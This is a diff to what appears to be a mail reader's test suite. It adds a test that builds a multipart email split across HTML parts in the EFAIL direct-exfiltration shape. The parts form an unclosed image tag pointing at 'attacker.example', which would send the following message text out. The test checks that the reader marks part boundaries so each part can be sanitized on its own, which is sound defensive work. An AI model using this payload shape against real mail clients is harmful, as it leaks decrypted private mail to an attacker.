@@ -234,6 +234,23 @@ describe('mail.read: the HTML of the content the report speaks of', () => {
     assert.equal((await read(store(message({ From: 'carol@app.example', Subject: 'plain' }, 'just text\n')))).html, null);
   });
 
+  test('several HTML parts: mail.read says where each starts, so the reader sanitizes them apart (EFAIL direct exfiltration)', async () => {
+    const parts = ['<img src="http://attacker.example/?', '<p>middle</p>', '">'];
+    const efail = message(
+      { From: `Carol <carol@app.example>`, To: ALICE, Subject: 'efail shape' },
+      multipart(
+        'mixed',
+        parts.map((p) => textPart(p, 'text/html; charset=utf-8')),
+      ),
+    );
+    const view = await read(store(efail));
+    assert.equal(view.html, parts.join('\n'));
+    assert.deepEqual(
+      view.htmlStarts!.map((start, i) => view.html!.slice(start, start + parts[i]!.length)),
+      parts,
+    );
+  });
+
   test(
     'made by GnuPG: a signed and encrypted multipart/alternative, html from the decrypted part',
     { skip: peer('gpg').available() ? false : 'gpg is not installed' },
